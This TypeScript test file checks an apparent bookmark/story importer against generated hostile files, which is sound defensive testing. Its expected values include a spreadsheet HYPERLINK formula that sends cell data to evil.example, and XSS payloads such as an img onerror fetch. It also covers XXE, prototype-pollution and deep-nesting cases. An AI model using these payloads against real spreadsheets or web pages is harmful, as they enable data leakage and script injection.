import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { madeStory } from '../../../support/made-story.ts';
import { repository } from '../../../support/source-files.ts';
import { type Read, read } from './read.ts';

/** Where a generator of hostile files lies beside the repository, its attacks are made here, in their shape and in ours. */
const generator = path.resolve(repository, '../shared/hostile');
const isThere = existsSync(path.join(generator, 'gen.mjs'));

describe.skipIf(!isThere)(`hostile files${isThere ? '' : ' (skipped: no ../shared/hostile)'}`, () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'nutgraf-hostile-'));
  if (isThere) {
    cpSync(path.join(generator, 'gen.mjs'), path.join(folder, 'gen.mjs'));
    execFileSync(process.execPath, ['gen.mjs'], { cwd: folder });
  }
  afterAll(() => rmSync(folder, { recursive: true, force: true }));
  const bytesOf = (name: string) => new Uint8Array(readFileSync(path.join(folder, 'import', name)));
  const textOf = (name: string) => new TextDecoder(name === 'utf16.json' ? 'utf-16le' : 'utf-8').decode(bytesOf(name));

  const reasons: Record<string, (found: Read) => void> = {
    'formula.csv': ({ entries }) =>
      expect(entries.map(({ title }) => title)).toEqual([
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        '+1+1',
        '@SUM(1)',
        '-2+3',
        '=1',
      ]),
    'bom.csv': ({ entries }) => expect(entries).toMatchObject([{ url: 'https://ex.com/1', title: 'a "q" b' }]),
    'bookmarks.html': ({ entries }) =>
      expect(entries).toMatchObject([{ url: 'https://ok.example/' }, { why: 'not-web-address', title: 'Bookmarklet' }]),
    'xxe.opml': ({ refused }) => expect(refused).toBe('unknown'),
    'deep.json': ({ refused }) => expect(refused).toBe('too-deep'),
    'proto.json': ({ entries }) => {
      expect(entries).toMatchObject([{ url: 'https://ex.com/1', title: 'T' }]);
      expect('polluted' in {}).toBe(false);
    },
    'badurls.json': ({ survey, entries }) => {
      expect(survey).toMatchObject({ entries: 1, skipped: 5, incomplete: false });
      expect(entries.at(-1)).toMatchObject({ url: 'https://ok.example/1' });
    },
    'xss.json': ({ entries }) =>
      expect(entries).toMatchObject([
        { title: '<img src=x onerror=fetch("/canary/import/title")>', tags: ['<b>', '"><img src=x onerror=1>'] },
      ]),
    'types.json': ({ survey }) => expect(survey).toMatchObject({ skipped: expect.any(Number), incomplete: false }),
    'truncated.json': ({ survey, entries }) => {
      expect(survey).toMatchObject({ incomplete: true, reasons: { 'cut-short': 1 } });
      expect(entries.at(-1)).toMatchObject({ why: 'cut-short', rest: true });
    },
    'dup.json': ({ survey, entries }) => {
      expect(survey).toMatchObject({ entries: 1000, duplicates: 990 });
      expect(entries).toHaveLength(10);
    },
    'utf16.json': ({ entries }) => expect(entries).toMatchObject([{ title: 'Ünï' }]),
  };

  test.each(Object.entries(reasons))('%s', async (name, expected) => {
    const before = performance.now();
    expected(await read(bytesOf(name)));
    expect(performance.now() - before).toBeLessThan(5000);
  });

  test.each(['future.json', 'huge-field.json'])('%s, which is nobody’s file, does no harm', async (name) => {
    const { refused, entries } = await read(bytesOf(name));
    expect(refused ?? entries.length).toEqual(name === 'future.json' ? 'unknown' : 1);
  });

  test.each(['proto', 'badurls', 'xss', 'dup', 'utf16'])('%s.json in our own shape', async (name) => {
    reasons[`${name}.json`]?.(await read(ours(textOf(`${name}.json`))));
  });

  test('types.json in our own shape', async () => {
    const { survey } = await read(ours(textOf('types.json')));
    expect(survey).toMatchObject({ entries: 1, skipped: 7, reasons: { 'wrong-shape': 7 } });
  });

  test('huge-field.json in our own shape', async () => {
    expect((await read(ours(textOf('huge-field.json')))).entries).toMatchObject([{ at: 1, why: 'too-large' }]);
  });

  test('truncated.json in our own shape', async () => {
    const whole = ours(textOf('dup.json'));
    reasons['truncated.json']?.(await read(whole.slice(0, whole.length / 2)));
  });

  test('future.json in our own shape', async () => {
    const text = JSON.stringify({ ...head, schema: 999, stories: [] });
    expect(await read(text)).toEqual({ refused: 'newer', schema: 999, entries: [] });
  });
});

const head = { format: 'nutgraf-stories', schema: 2, exported: '2026-02-01T12:00:00.000Z' };

/** The same attack in a file of ours: each record becomes a story, and keeps what is wrong with it. */
function ours(text: string): string {
  const { stories } = JSON.parse(text) as { stories: unknown[] };
  return JSON.stringify({ ...head, stories: stories.map((record, index) => storyOf(record, index)) });
}

function storyOf(record: unknown, index: number): unknown {
  if (typeof record !== 'object' || record === null || Array.isArray(record)) return record;
  const field = (key: string): unknown => (Object.hasOwn(record, key) ? Reflect.get(record, key) : undefined);
  const story = madeStory(index);
  const saved = field('savedAt');
  const [first, ...rest] = story.article.blocks;
  return {
    ...story,
    id: field('id'),
    ...(saved !== undefined && { saved: Number(saved) > 0 ? new Date(Number(saved)).toISOString() : saved }),
    ...(field('tags') !== undefined && { tags: field('tags') }),
    article: {
      ...story.article,
      url: field('url'),
      canonicalUrl: field('url'),
      title: field('title'),
      // A longer text holds all places that the brief points to.
      blocks: [{ ...first, text: `${first?.text}${String(field('text') ?? '')}` }, ...rest],
    },
  };
}
